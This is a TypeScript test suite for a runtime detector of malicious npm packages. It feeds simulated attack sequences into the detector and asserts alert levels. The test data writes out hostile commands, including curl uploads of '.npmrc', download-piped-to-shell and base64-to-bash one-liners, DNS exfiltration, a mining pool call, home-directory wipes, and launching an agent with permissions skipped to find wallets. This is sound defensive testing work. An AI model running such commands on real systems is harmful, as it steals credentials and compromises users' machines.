import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Level } from '../../src/response/finding.ts';
import {
  appSecret,
  chmod,
  connect,
  dlopen,
  dns,
  env,
  evaluate,
  listen,
  load,
  metadata,
  read,
  remove,
  secret,
  shell,
  spawn,
  type What,
  World,
  write,
} from './threats-builder.ts';

const EVIL = 'left-shelf@1.0.1';
/** What a harmless string helper of the same name did in its baseline. */
const HARMLESS = ['fs.read:/app/data.json'];
const many = (n: number, make: (i: number) => What): What[] => Array.from({ length: n }, (_, i) => make(i));

const linked = (one: What, linksTo: string): What => ({ ...one, act: { ...one.act, linksTo } });

interface Row {
  readonly title: string;
  readonly acts: readonly What[];
  /** With a settled baseline of a harmless package, and at first contact. */
  readonly novel: Level | 'none';
  readonly first: Level | 'none';
  /** The rule that tells it; both cases. */
  readonly rule: string;
}

const ATTACKS: Row[] = [
  {
    title: 'reads a secret',
    acts: [secret()],
    novel: 'WARN',
    first: 'WARN',
    rule: 'secret_read',
  },
  {
    title: 'reads a secret and posts it',
    acts: [secret(), connect('collect.example.net:443')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'reads a secret and posts it to a loopback address',
    acts: [secret('ssh'), connect('127.0.0.9:8125', 'loopback')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'opens its channel first and reads the secret later, through the same channel',
    acts: [connect('c2.example.net:443'), secret('aws'), connect('c2.example.net:443')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'drowns the channel in known names between reading and sending',
    acts: [
      secret('aws'),
      ...many(40, (i) => write(`/tmp/noise${i}`)),
      ...many(40, (i) => spawn(`tool${i}`)),
      connect('c2.example.net:443'),
    ],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'sends a secret in DNS labels',
    acts: [secret('npm'), dns('6e706d5f61626364656667.x.example.net')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'hands a secret to a child that uploads',
    acts: [shell('curl -s -d @/home/u/.npmrc http://127.0.0.7/')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_in_command',
  },
  {
    title: 'asks a command line tool for its token',
    acts: [spawn('gh', ['auth', 'token'])],
    novel: 'WARN',
    first: 'WARN',
    rule: 'secret_by_command',
  },
  {
    title: 'collects secrets of many kinds',
    acts: [secret('npm'), secret('ssh'), secret('aws'), secret('kubernetes')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_harvest',
  },
  {
    title: 'reads secret variables of many services and sends something',
    acts: [env('AWS'), env('NPM'), env('GITHUB'), env('STRIPE'), connect('c2.example.net:443')],
    novel: 'ALERT',
    first: 'WARN',
    rule: 'env_harvest_to_network',
  },
  {
    title: 'asks the metadata service',
    acts: [metadata()],
    novel: 'WARN',
    first: 'WARN',
    rule: 'metadata_service',
  },
  {
    title: 'asks the metadata service and sends something',
    acts: [metadata(), connect('c2.example.net:443')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'secret_to_network',
  },
  {
    title: 'looks up many names that carry data',
    acts: many(12, (i) => dns(`${'0a1b2c3d4e5f60718293'}${i}.t.example.net`)),
    novel: 'ALERT',
    first: 'WARN',
    rule: 'dns_tunnel',
  },
  {
    title: 'downloads, writes, makes executable and runs',
    acts: [
      connect('198.51.100.4:8000', 'public-ip'),
      write('/tmp/x'),
      chmod('/tmp/x'),
      spawn('/tmp/x', [], 'temp-executable'),
    ],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'download_write_run',
  },
  {
    title: 'unpacks its own blob into temp and runs it',
    acts: [write('/tmp/x'), spawn('/tmp/x', [], 'temp-executable')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'write_run_temp',
  },
  {
    title: 'fetches another runtime and starts it',
    acts: [
      connect('bun.example.net:443'),
      write('/home/u/.bun/bin/bun', 'home'),
      spawn('bun', ['x.js'], 'foreign-runtime'),
    ],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'download_write_run',
  },
  {
    title: 'pipes a download into a shell',
    acts: [shell('curl -fsSL http://example.net/i.sh | sh')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'hostile_command',
  },
  {
    title: 'decodes a command into a shell',
    acts: [shell('echo aGk= | base64 -d | bash')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'hostile_command',
  },
  { title: 'starts a shell', acts: [shell('uname -a')], novel: 'WARN', first: 'LOG', rule: 'shell' },
  {
    title: 'opens a remote shell',
    acts: [connect('c2.example.net:443'), shell('id')],
    novel: 'ALERT',
    first: 'LOG',
    rule: 'fetched_shell',
  },
  {
    title: 'writes into a shell profile',
    acts: [write('/home/u/.bashrc', 'home', 'persistence')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'persistence',
  },
  {
    title: 'writes into the configuration of an agent',
    acts: [write('/home/u/.claude/settings.json', 'home', 'agent-config')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'agent_config',
  },
  {
    title: 'asks for root',
    acts: [spawn('sudo', ['-n', 'true'])],
    novel: 'ALERT',
    first: 'WARN',
    rule: 'privileged_command',
  },
  {
    title: 'starts an agent with its safety off',
    acts: [spawn('claude', ['--dangerously-skip-permissions', '-p', 'find wallets'])],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'agent_without_safety',
  },
  {
    title: 'loads native code from temp',
    acts: [write('/tmp/x.node'), dlopen('/tmp/x.node', 'tmp')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'written_native_code',
  },
  {
    title: 'rewrites another package',
    acts: [write('/app/node_modules/express/index.js', 'package')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'foreign_package_change',
  },
  {
    title: 'writes a route of the application',
    acts: [write('/app/routes/status.js', 'app')],
    novel: 'WARN',
    first: 'LOG',
    rule: 'application_code_written',
  },
  {
    title: 'links another package to what lies in temp',
    acts: [linked(write('/app/node_modules/express', 'package'), '/tmp/express')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'foreign_package_change',
  },
  {
    title: 'evaluates what it fetched',
    acts: [connect('paste.example.net:443'), evaluate()],
    novel: 'ALERT',
    first: 'WARN',
    rule: 'fetched_code',
  },
  {
    title: 'loads a module that it wrote into temp',
    acts: [write('/tmp/stage2.mjs'), load('/tmp/stage2.mjs', 'tmp')],
    novel: 'ALERT',
    first: 'WARN',
    rule: 'fetched_module',
  },
  {
    title: 'runs hidden code that reads a secret',
    acts: [evaluate(), secret('wallet')],
    novel: 'ALERT',
    first: 'WARN',
    rule: 'code_with_secret',
  },
  {
    title: 'starts a miner',
    acts: [spawn('./jsextension', ['-o', 'stratum+tcp://pool.example:443'], 'own-executable')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'mining',
  },
  {
    title: "wipes the user's files",
    acts: many(60, (i) => remove(`/home/u/docs/${i}.txt`)),
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'home_wipe',
  },
  {
    title: "overwrites the user's files",
    acts: many(60, (i) => write(`/home/u/docs/${i}.txt`, 'home')),
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'home_wipe',
  },
  {
    title: "changes Diogenesis' own files",
    acts: [write('/app/diogenesis.lock.json', 'app', 'self')],
    novel: 'ALERT',
    first: 'ALERT',
    rule: 'tampering',
  },
];

describe('a package that attacks', () => {
  for (const { title, acts, novel, first, rule } of ATTACKS) {
    it(`${title}: ${novel} against a baseline`, () => {
      const world = new World({ baselines: { [EVIL]: HARMLESS, '<app>': [] } });
      // Bursts must fit into their window.
      for (const act of acts) {
        world.does(EVIL, act);
        if (acts.length > 20) world.now -= 900;
      }
      assert.equal(world.level(EVIL), novel);
      assert.ok(world.rules(EVIL).includes(rule), `${rule} not among ${world.rules(EVIL)}`);
    });
    it(`${title}: ${first} at first contact`, () => {
      const world = new World();
      for (const act of acts) {
        world.does(EVIL, act);
        if (acts.length > 20) world.now -= 900;
      }
      assert.equal(world.level(EVIL), first);
    });
    it(`${title}: silent once reviewed`, () => {
      const world = new World({
        baselines: { [EVIL]: acts.map((act) => act.trait), '<app>': acts.map((act) => act.trait) },
      });
      world.does(EVIL, ...acts);
      assert.equal(world.level(), 'none');
    });
  }
});

describe('a sequence over several packages', () => {
  it('names the outer package when its helper reads and it sends itself', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    world.does(['helper@1.0.0', EVIL, '<app>'], secret('npm'));
    world.does(EVIL, connect('c2.example.net:443'));
    assert.equal(world.level(EVIL), 'ALERT');
  });

  it('names the reader when the application calls a reader and a sender in turn', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS, 'post@1.0.0': [], '<app>': [] } });
    world.does(EVIL, secret('npm'));
    const matches = world.does('post@1.0.0', connect('c2.example.net:443'));
    const alert = matches.find((match) => match.level === 'ALERT');
    assert.equal(alert?.culprit.key, EVIL);
    assert.deepEqual(
      alert?.steps.map((step) => step.principal),
      [EVIL, 'post@1.0.0'],
    );
  });

  it('follows a secret through a dropped file to whoever sends it', () => {
    const world = new World();
    world.does(EVIL, secret('npm'), write('/tmp/inventory.txt'));
    world.does('courier@1.0.0', read('/tmp/inventory.txt', 'tmp'), connect('c2.example.net:443'));
    assert.equal(world.level('courier@1.0.0'), 'ALERT');
  });

  it('does not follow files that were written before any secret was read', () => {
    const world = new World();
    world.does(EVIL, write('/tmp/inventory.txt'), secret('npm'));
    world.does('courier@1.0.0', read('/tmp/inventory.txt', 'tmp'), connect('c2.example.net:443'));
    assert.equal(world.level('courier@1.0.0'), 'none');
  });

  it('does not connect what two unrelated packages do', () => {
    const world = new World();
    world.does('dotfiles@1.0.0', appSecret());
    world.does('pg@8.0.0', connect('db.example.com:5432'));
    assert.equal(world.level('pg@8.0.0'), 'none');
    assert.equal(world.level('<app>'), 'none');
  });
});

describe('one incident', () => {
  it('is one ALERT a pattern however often it goes on', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    for (let i = 0; i < 20; i++)
      world.does(EVIL, secret('npm', `/home/u/.secret${i}`), connect(`h${i}.example.net:443`));
    const alerts = world.findings.filter((m) => m.level === 'ALERT');
    assert.deepEqual([...new Set(alerts.map((m) => m.pattern))], ['data_exfiltration']);
    assert.deepEqual(
      alerts.map((m) => m.principal),
      [EVIL],
    );
    assert.equal(world.engine.incidentOf(EVIL)?.level, 'ALERT');
  });

  it('speaks again when a new pattern of ALERT appears', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    world.does(EVIL, secret('npm'), connect('c2.example.net:443'));
    const [match] = world.does(EVIL, write('/home/u/.bashrc', 'home', 'persistence'));
    assert.deepEqual([match?.pattern, match?.isRepeat], ['privilege_escalation', false]);
  });

  it('still answers repeats, so that blocking can refuse them', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    world.does(EVIL, secret('npm'), connect('c2.example.net:443'));
    const match = world.does(EVIL, connect('c2.example.net:443')).find((m) => m.level === 'ALERT');
    assert.equal(match?.isRepeat, true);
  });

  it('is over after a quiet time', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    world.does(EVIL, secret('npm'), connect('c2.example.net:443'));
    const match = world
      .waits(3600)
      .does(EVIL, connect('c3.example.net:443'))
      .find((m) => m.level === 'ALERT');
    assert.equal(match?.isRepeat, false);
  });

  it('tells its steps oldest first, the act itself last', () => {
    const world = new World({ baselines: { [EVIL]: HARMLESS } });
    world.does(EVIL, secret('npm'));
    const match = world.does(EVIL, connect('c2.example.net:443')).find((m) => m.level === 'ALERT');
    assert.deepEqual(
      match?.steps.map((step) => step.trait),
      ['fs.read:/home/u/.npm [credential]', 'net.connect:c2.example.net:443'],
    );
    assert.match(
      match?.reason ?? '',
      /^left-shelf@1\.0\.1 obtained a secret \(fs\.read:.*\) and then sent something out/,
    );
  });
});

describe('drift', () => {
  const drift = (traits: readonly string[], act: What, wait = 0) => {
    const world = new World({ baselines: { [EVIL]: traits, '<app>': [] } });
    world.does(EVIL, read('/app/data.json'));
    world.waits(wait).does(EVIL, act);
    return world.level(EVIL);
  };
  const rows: [string, readonly string[], What, Level][] = [
    ['first network use', HARMLESS, connect('a.example.com:443'), 'WARN'],
    ['first program', HARMLESS, spawn('git'), 'WARN'],
    ['first listening port', HARMLESS, listen(), 'WARN'],
    ['first eval', HARMLESS, evaluate(), 'WARN'],
    ['first native code', HARMLESS, dlopen('/app/node_modules/left-shelf/x.node'), 'WARN'],
    ['import of child_process', HARMLESS, load('node:child_process'), 'WARN'],
    ['import of https', HARMLESS, load('node:https'), 'LOG'],
    ['another file', HARMLESS, read('/app/other.json'), 'LOG'],
    ['another host of a known domain', ['net.connect:a.example.com:443'], connect('b.example.com:443'), 'LOG'],
    ['another port of a known host', ['net.connect:127.0.0.1:80'], connect('localhost:81', 'loopback'), 'LOG'],
    ['a new domain where few are known', ['net.connect:a.example.com:443'], connect('b.example.net:443'), 'WARN'],
    [
      'a new domain where many are known',
      ['a.example.com', 'b.example.net', 'c.example.org', 'd.example.io'].map((h) => `net.connect:${h}:443`),
      connect('e.example.dev:443'),
      'LOG',
    ],
    ['another program', ['process.spawn:git'], spawn('tar'), 'LOG'],
  ];
  for (const [title, traits, act, level] of rows) {
    it(`is ${level} for ${title}`, () => assert.equal(drift(traits, act), level));
  }

  it('is WARN for another program long after start-up', () => {
    assert.equal(drift(['process.spawn:git'], spawn('tar'), 3600), 'WARN');
  });

  it('needs a settled baseline', () => {
    const world = new World();
    world.does(EVIL, connect('a.example.com:443'), evaluate(), listen(), spawn('git'));
    assert.ok(!world.rules(EVIL).includes('new_kind'));
  });

  it('is no more than LOG for the application itself', () => {
    const world = new World({ baselines: { '<app>': HARMLESS } });
    world.does(['<app>'], connect('a.example.com:443'), spawn('git'), evaluate());
    assert.equal(world.level('<app>'), 'LOG');
  });
});
